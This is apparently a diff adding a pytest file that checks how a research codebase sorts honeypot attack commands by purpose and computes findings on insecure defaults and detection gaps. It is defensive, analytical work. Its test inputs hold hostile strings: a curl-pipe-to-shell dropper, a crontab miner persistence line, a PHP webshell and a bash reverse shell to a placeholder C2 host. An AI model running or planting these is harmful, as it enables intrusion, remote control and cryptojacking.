@@ -1,0 +1,158 @@
+"""Tests for the forensics triage and the §6.1 insight calculators."""
+
+import pytest
+
+from repro.analysis.attacks import Attack, cluster_attackers, group_attacks
+from repro.analysis.forensics import (
+    AttackPurpose,
+    classify_attack,
+    classify_command,
+    forensics_table,
+    profile_campaigns,
+    purpose_breakdown,
+)
+from repro.analysis.insights import (
+    changed_defaults_insight,
+    consensus_insight,
+    defaults_insight,
+    defender_gap_insight,
+)
+
+
+class TestCommandClassification:
+    def test_kinsing_dropper_is_cryptojacking(self):
+        traits = classify_command("curl -fsSL hxxp://x.invalid/k.sh | sh")
+        assert traits.purpose is AttackPurpose.CRYPTOJACKING
+        assert traits.downloads_dropper
+
+    def test_monero_killer_traits(self):
+        traits = classify_command(
+            "pkill-competitors && (crontab -l; echo '* * * * * miner') | crontab - && run-xmrig"
+        )
+        assert traits.purpose is AttackPurpose.CRYPTOJACKING
+        assert traits.persists
+        assert traits.kills_competitors
+
+    def test_vigilante(self):
+        assert classify_command("shutdown -h now").purpose is AttackPurpose.VIGILANTE
+
+    def test_webshell(self):
+        assert classify_command(
+            "<?php system($_GET['c']); ?>"
+        ).purpose is AttackPurpose.WEBSHELL
+
+    def test_reverse_shell_is_botnet(self):
+        assert classify_command(
+            "bash -i >& /dev/tcp/c2.invalid/4444 0>&1"
+        ).purpose is AttackPurpose.BOTNET
+
+    def test_recon(self):
+        assert classify_command("uname -a; id; nproc").purpose is AttackPurpose.RECONNAISSANCE
+
+    def test_unknown(self):
+        assert classify_command("true").purpose is AttackPurpose.UNKNOWN
+
+
+class TestAttackClassification:
+    def _attack(self, *commands):
+        return Attack("hadoop", 1, 0.0, 1.0, list(commands), {1})
+
+    def test_most_severe_purpose_wins(self):
+        attack = self._attack("uname -a", "curl x.invalid/m | sh")
+        assert classify_attack(attack) is AttackPurpose.CRYPTOJACKING
+
+    def test_breakdown(self):
+        attacks = [
+            self._attack("curl x.invalid | sh"),
+            self._attack("shutdown -h now"),
+            self._attack("uname -a"),
+        ]
+        breakdown = purpose_breakdown(attacks)
+        assert breakdown[AttackPurpose.CRYPTOJACKING] == 1
+        assert breakdown[AttackPurpose.VIGILANTE] == 1
+
+    def test_table_renders(self):
+        assert "cryptojacking" in forensics_table(
+            [self._attack("curl x.invalid | sh")]
+        ).render()
+
+
+class TestHoneypotForensics:
+    """Against the full honeypot study: the paper's RQ4 narrative."""
+
+    def test_cryptojacking_dominates(self, honeypot_study):
+        breakdown = purpose_breakdown(honeypot_study.attacks)
+        total = sum(breakdown.values())
+        assert breakdown[AttackPurpose.CRYPTOJACKING] / total > 0.5
+
+    def test_vigilante_present_on_jupyterlab_only(self, honeypot_study):
+        vigilante_apps = {
+            a.honeypot for a in honeypot_study.attacks
+            if classify_attack(a) is AttackPurpose.VIGILANTE
+        }
+        assert vigilante_apps == {"jupyterlab"}
+
+    def test_campaign_profiles(self, honeypot_study):
+        profiles = profile_campaigns(honeypot_study.attacks, honeypot_study.clusters)
+        assert len(profiles) == len(honeypot_study.clusters)
+        # The Kinsing-like cross-app campaign: cryptojacking spanning
+        # Docker and Hadoop with persistence.
+        kinsing_like = [
+            p for p in profiles
+            if p.is_cross_application_campaign
+            and set(p.applications) == {"docker", "hadoop"}
+            and p.purpose is AttackPurpose.CRYPTOJACKING
+        ]
+        assert kinsing_like
+        assert any(p.persists for p in kinsing_like)
+
+    def test_monero_killer_campaign_detected(self, honeypot_study):
+        profiles = profile_campaigns(honeypot_study.attacks, honeypot_study.clusters)
+        killers = [p for p in profiles if p.kills_competitors]
+        assert killers
+        assert all(p.purpose is AttackPurpose.CRYPTOJACKING for p in killers)
+        # It is the most active attacker overall (719 attacks on Hadoop).
+        assert max(p.attack_count for p in killers) > 500
+
+
+class TestInsights:
+    def test_defaults_insight(self, calibrated_scan_study):
+        insight = defaults_insight(
+            calibrated_scan_study.report, calibrated_scan_study.census
+        )
+        # Paper: "all products where about 5% or more of the exposed AWEs
+        # were vulnerable, they were so because of insecure defaults."
+        assert insight.holds
+        assert {"docker", "hadoop", "nomad", "gocd"} <= set(insight.high_rate_apps)
+
+    def test_changed_defaults_insight(self, calibrated_scan_study):
+        from repro.analysis.versions import to_versioned
+
+        observations = to_versioned(calibrated_scan_study.report.observations())
+        insight = changed_defaults_insight(observations)
+        assert insight.change_was_effective        # most MAVs are pre-4.3
+        assert insight.tail_still_exists           # but hundreds remain
+        assert insight.remaining_mavs > 200
+
+    def test_changed_defaults_requires_changed_app(self):
+        with pytest.raises(ValueError):
+            changed_defaults_insight([], slug="hadoop")
+
+    def test_defender_gap(self, honeypot_study, defender_study):
+        insight = defender_gap_insight(
+            honeypot_study.attacks, defender_study.detections()
+        )
+        assert insight.defenders_are_behind
+        # Jupyter Lab and GravCMS: actively attacked, detected by nobody.
+        assert "jupyterlab" in insight.attacked_but_undetected
+        assert "grav" in insight.attacked_but_undetected
+
+    def test_consensus_insight(self, defender_study):
+        insight = consensus_insight(defender_study.detections())
+        assert insight.overlap == {"consul", "docker"}
+        assert insight.no_consensus
+        assert insight.jaccard == pytest.approx(2 / 6)
+
+    def test_consensus_empty(self):
+        insight = consensus_insight({})
+        assert insight.jaccard == 0.0
